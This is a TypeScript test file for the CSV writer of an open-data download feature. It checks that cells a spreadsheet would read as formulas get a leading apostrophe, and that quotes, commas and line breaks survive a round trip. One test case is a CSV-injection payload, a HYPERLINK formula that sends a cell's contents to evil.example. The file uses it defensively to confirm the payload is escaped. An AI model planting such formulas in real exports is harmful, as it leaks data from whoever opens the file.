import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/formats/open-data-csv.ts';

// escape_formulas: a cell that Excel would read as a formula gets a leading ' (OWASP's CSV injection advice).
const reference = (columns: string[], rows: string[][]) =>
  stringify(rows, {
    bom: true,
    header: true,
    columns,
    quoted: true,
    quoted_empty: true,
    record_delimiter: 'windows',
    escape_formulas: true,
  });

/** Text, often starting with a character a spreadsheet reads as a formula. */
const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'), fc.string({ unit: 'grapheme' }))
    .map(([a, b]) => a + b),
);

describe('the CSV writer of the open-data downloads', () => {
  it('writes the same bytes as csv-stringify with escape_formulas, for any text (property)', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 5 }),
        fc.array(fc.array(cell, { minLength: 5, maxLength: 5 })),
        (width, raw) => {
          const columns = ['認定番号', '申請内容', 'No', '"引用"', 'a,b'].slice(0, width);
          const rows = raw.map((r) => r.slice(0, width));
          expect(toCsv(columns, rows)).toBe(reference(columns, rows));
        },
      ),
    );
  });

  it('answers with commas, quotes and line breaks read back as written', () => {
    const rows = [['IP0001-1302', '24時間365日、"有人"で監視\r\n2行目\n3行目', '']];
    const csv = toCsv(['認定番号', '申請内容', '実施有無'], rows);
    expect(csv.startsWith('\uFEFF"認定番号"')).toBe(true);
    expect(parse(csv, { bom: true, columns: true })).toEqual([
      { 認定番号: 'IP0001-1302', 申請内容: rows[0]![1], 実施有無: '' },
    ]);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A2,"詳細")', `"'=HYPERLINK(""http://evil.example/?x=""&A2,""詳細"")"`],
    ['+81 3 0000 0000', `"'+81 3 0000 0000"`],
    ['-', `"'-"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tテスト', `"'\tテスト"`],
    ['\r\nテスト', `"'\r\nテスト"`],
    ['テスト=1', '"テスト=1"'],
  ])('a cell %j that Excel would run as a formula is written as text: %s', (value, written) => {
    expect(toCsv(['値'], [[value]])).toBe(`\uFEFF"値"\r\n${written}\r\n`);
  });
});
